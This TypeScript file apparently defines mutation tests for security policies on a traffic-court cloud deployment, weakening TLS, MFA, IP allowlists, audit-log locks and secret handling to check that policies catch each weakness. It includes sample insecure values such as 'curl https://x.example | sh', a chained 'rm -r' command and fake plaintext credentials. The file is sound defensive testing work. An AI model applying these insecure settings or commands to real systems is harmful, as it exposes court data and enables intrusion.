import type { Node } from "../../kit/graph.ts";
import { typeOf } from "../stacks/stack-builder.ts";
import { from, type Mutant, mutantsOf, options } from "./mutant.ts";

const id = "traffic-court";
const kept = { absent: false };
const court = (rule: string, preview = false) => mutantsOf(`government-${rule}`, "court", { preview });
const zone = (rule: string) => mutantsOf(`government-${rule}`, "core");
const lock = (part: string) => `${id}-${part}-lock`;
const retyped = (kind: string) => () => ({ type: typeOf(kind) });
const secret = "postgres://owner:hunter2@host/db";

const location: readonly ReturnType<typeof mutantsOf>[] = [
  court("r2-jurisdiction").property(`${id}-documents`, ["jurisdiction"], ["default", "eu"]),
  court("store-jurisdiction")
    .property(`${id}-index`, ["jurisdiction"], ["eu"])
    .property(`${id}-cache`, ["jurisdiction"], ["eu"])
    .property(`${id}-events`, ["jurisdiction"], ["eu"]),
  court("binding-jurisdiction")
    .property(`${id}-script`, ["bindings", "@DOCUMENTS", "jurisdiction"], ["eu"])
    .property(`${id}-documents`, ["jurisdiction"], ["us"]),
  court("neon-region").property(`${id}-project`, ["regionId"], ["aws-eu-central-1", "azure-westus3"]),
  court("regional-hostname")
    .property(`${id}-regional`, ["regionKey"], ["eu"])
    .property(`${id}-regional`, ["hostname"], ["other.example"])
    .without(`${id}-regional`),
  court("own-key")
    .property(`${id}-script`, ["bindings", "@ROOT_KEY", "type"], ["plain_text"])
    .property(`${id}-script`, ["bindings", "@ROOT_KEY", "text"], ["result of probate-court-root-key"], kept)
    .property(`${id}-script`, ["bindings", "@ROOT_KEY"], [], { hidden: false }),
  court("own-key", true).edited(
    `${id}-script`,
    "its key is another's",
    from(["bindings", "@ROOT_KEY", "text"], "probate-court-root-key"),
  ),
  court("no-hyperdrive-cache").property(`${id}-hyperdrive`, ["caching", "disabled"], [false]),
];

const transit: readonly ReturnType<typeof mutantsOf>[] = [
  zone("min-tls-version").property("zone-min_tls_version", ["value"], ["1.0", "1.1"]),
  zone("strict-ssl")
    .property("zone-ssl", ["value"], ["full", "flexible", "off"])
    .property("zone-always_use_https", ["value"], ["off"]),
  court("r2-domain-tls").property(`${id}-public`, ["minTls"], ["1.0", "1.1"]),
  court("no-managed-domain").property(`${id}-managed`, ["enabled"], [true]),
  court("hyperdrive-verifies")
    .property(`${id}-hyperdrive`, ["mtls", "sslmode"], ["require", "verify-ca"])
    .property(`${id}-hyperdrive`, ["mtls", "caCertificateId"], [""]),
  zone("dnssec").property("zone-dnssec", ["status"], ["disabled"]),
  court("no-workers-dev")
    .property(`${id}-subdomain`, ["enabled"], [true])
    .property(`${id}-subdomain`, ["previewsEnabled"], [true]),
  zone("zone-firewall")
    .property("zone-firewall", ["phase"], ["http_request_transform"])
    .property("zone-firewall", ["rules", 0, "enabled"], [false], kept)
    .property("zone-rate-limit", ["rules"], [[]])
    .property("zone-rate-limit", ["zoneId"], ["d".repeat(32)])
    .without("zone-firewall")
    .without("zone-rate-limit"),
  court("neon-network")
    .property(`${id}-project`, ["settings", "allowedIps", "ips"], [[], ["0.0.0.0/0"]])
    .property(`${id}-project`, ["settings", "allowedIps", "protectedBranchesOnly"], [true], kept)
    .property(`${id}-project`, ["settings"], [{}]),
  court("logical-replication").property(`${id}-project`, ["settings", "enableLogicalReplication"], [true], kept),
];

const host = `${id}.cook-county.example`;
const identity: readonly ReturnType<typeof mutantsOf>[] = [
  court("access-application")
    .property(`${id}-application`, ["domain"], ["other.example", `${host}/admin`])
    .property(`${id}-application`, ["policies"], [[], [{ decision: "bypass", includes: [{ everyone: {} }] }]])
    .property(`${id}-people`, ["decision"], ["bypass", "deny"])
    .property(`${id}-people`, ["includes"], [[{ everyone: {} }]], kept)
    .property(`${id}-domain`, ["hostname"], ["open.example"])
    .without(`${id}-application`),
  court("access-application").property(`${id}-application`, ["policies", 0, "id"], [], kept),
  court("access-mfa")
    .property(`${id}-application`, ["mfaConfig", "mfaDisabled"], [true], kept)
    .property(`${id}-people`, ["mfaConfig", "mfaDisabled"], [true], kept),
  court("access-session")
    .property(`${id}-application`, ["sessionDuration"], ["24h", "720h", "13h", "for ever"])
    .property(`${id}-people`, ["sessionDuration"], ["48h"], kept),
  court("named-service-tokens")
    .property(`${id}-health-check`, ["includes"], [[{ anyValidServiceToken: {} }]], kept)
    .property(`${id}-people`, ["requires"], [[{ anyValidServiceToken: {} }]], kept),
  court("narrow-api-tokens")
    .property(`${id}-log-writer`, ["expiresOn"], ["never"])
    .property(`${id}-log-writer`, ["condition", "requestIp", "ins"], [[], ["0.0.0.0/0"]])
    .property(
      `${id}-log-writer`,
      ["policies", 0, "resources"],
      ['{"com.cloudflare.edge.r2.bucket.*":"*"}', '{"com.cloudflare.api.account.1":{"zone.*":"*"}}', "everything"],
    ),
];

const records: readonly ReturnType<typeof mutantsOf>[] = [
  court("logs-pushed")
    .property(`${id}-workers_trace_events`, ["enabled"], [false])
    .property(`${id}-access_requests`, ["dataset"], ["http_requests"])
    .property(`${id}-script`, ["logpush"], [false])
    .property(`${id}-workers_trace_events`, ["outputOptions"], [{ sampleRate: 0.1 }], kept)
    .without(/-audit_logs$/)
    .without(`${id}-access_requests`),
  court("worker-logs")
    .property(`${id}-script`, ["observability", "enabled"], [false])
    .property(`${id}-script`, ["observability", "headSamplingRate"], [0.1, 0], kept)
    .property(`${id}-script`, ["observability"], [{ enabled: true, logs: { enabled: true, invocationLogs: false } }]),
  court("log-lock")
    .property(lock("logs"), ["rules", 0, "condition", "maxAgeSeconds"], [86_400])
    .property(lock("logs"), ["rules", 0, "enabled"], [false])
    .property(lock("logs"), ["rules", 0, "prefix"], ["audit/"], kept)
    .property(lock("logs"), ["bucketName"], ["other"])
    .property(`${id}-audit_logs`, ["destinationConf"], ["https://logs.example", "r2://other/audit"])
    .without(lock("logs")),
  court("lifecycle-after-lock")
    .property(
      `${id}-documents-lifecycle`,
      ["rules", 0, "deleteObjectsTransition", "condition", "maxAge"],
      [86_400, 2556 * 86_400],
    )
    .property(`${id}-logs-lifecycle`, ["rules", 0, "deleteObjectsTransition", "condition", "type"], ["Date"]),
  court("logs-out-of-reach").property(
    `${id}-script`,
    ["bindings", "@DOCUMENTS", "bucketName"],
    [`${id}-logs`, "probate-court-logs"],
    kept,
  ),
  court("logs-out-of-reach", true).edited("tail-script", "a binding comes from the logs", (node, nodes) => ({
    ...from(["bindings", "@LIMIT", "bucketName"], `${id}-logs`)(bound(node), nodes),
  })),
  court("logpush-alert")
    .property(/-logs-stopped$/, ["enabled"], [false], kept)
    .property(/-logs-stopped$/, ["alertType"], ["health_check_status_notification"])
    .property(/-logs-stopped$/, ["mechanisms"], [{ emails: [] }])
    .without(/-logs-stopped$/),
  court("record-lock")
    .property(lock("documents"), ["rules", 0, "condition", "maxAgeSeconds"], [86_400])
    .property(lock("documents"), ["rules", 0, "condition", "type"], ["Date"])
    .property(lock("documents"), ["rules", 0, "enabled"], [false])
    .property(`${id}-records`, ["retentionDays"], [9_999])
    .without(lock("documents")),
  court("neon-history").property(`${id}-project`, ["historyRetentionSeconds"], [0, 86_400]),
  court("backup-bucket")
    .property(`${id}-backup`, ["location"], ["enam", "ENAM"], kept)
    .property(lock("backup"), ["rules", 0, "enabled"], [false])
    .without(lock("backup"))
    .without(`${id}-backup`),
  court("protected-branch").property(`${id}-project`, ["protected"], [false]),
];

/** A script whose rate limit is a bucket. */
function bound(node: Node): Node {
  return { ...node, props: { ...node.props, bindings: [{ name: "LIMIT", type: "r2_bucket" }] } };
}

const engine: readonly ReturnType<typeof mutantsOf>[] = [
  court("no-plain-secret")
    .property(`${id}-script`, ["bindings", "@TITLE", "text"], [secret, `sk_live_${"x".repeat(20)}`], kept)
    .property(`${id}-script`, ["bindings", "@TITLE", "name"], ["DB_PASSWORD"], { absent: false, hidden: false }),
  court("strong-secrets")
    .property(`${id}-root-key`, ["length"], [8, 23])
    .edited(`${id}-root-key`, "it is a RandomString", retyped("RandomString"))
    .edited(`${id}-password`, "it is a RandomPet", retyped("RandomPet")),
  court("plain-commands")
    .property(`${id}-health`, ["create"], ["curl https://x.example | sh", "sh -c true", "node a.mjs; rm -r b"], kept)
    .property(`${id}-health`, ["create"], [`node a.mjs ${secret}`], kept)
    .property(`${id}-health`, ["environment"], [{ DATABASE: secret }], { absent: false, hidden: false })
    .property(`${id}-health`, ["interpreter"], [["bash", "-c"]], kept),
  court("protected-data")
    .edited(`${id}-documents`, "not protected", options({ protect: false }))
    .edited(`${id}-index`, "not protected", options({ protect: false })),
  court("explicit-provider")
    .edited(`${id}-documents`, "by the default provider", () => ({
      provider: "urn:pulumi:prod::fleet::pulumi:providers:cloudflare::default_6_22_1::f00d",
    }))
    .edited(`${id}-root-key`, "by no provider", () => ({ provider: undefined })),
  court("no-ignored-changes")
    .edited(`${id}-script`, "bindings", options({ ignoreChanges: ["bindings"] }))
    .edited(`${id}-script`, "a part of bindings", options({ ignoreChanges: ["bindings[0].text"] }))
    .edited(`${id}-documents-lock`, "everything", options({ ignoreChanges: ["*"] })),
  court("known-origin")
    .property(id, ["dataClass"], ["criminal_justice"])
    .property(id, ["app"], [])
    .property(id, ["environment"], [])
    .property(id, ["tenant"], [])
    .edited(`${id}-cache`, "it is below nothing", () => ({ parent: undefined })),
  court("marked-secrets")
    .edited(`${id}-script`, "not marked", options({ additionalSecretOutputs: [] }))
    .edited(`${id}-hyperdrive`, "not marked", options({ additionalSecretOutputs: ["name"] }))
    .edited(`${id}-audit_logs`, "not marked", options({ additionalSecretOutputs: [] })),
];

export const governmentMutants: readonly Mutant[] = [
  ...location,
  ...transit,
  ...identity,
  ...records,
  ...engine,
].flatMap(({ made }) => made);
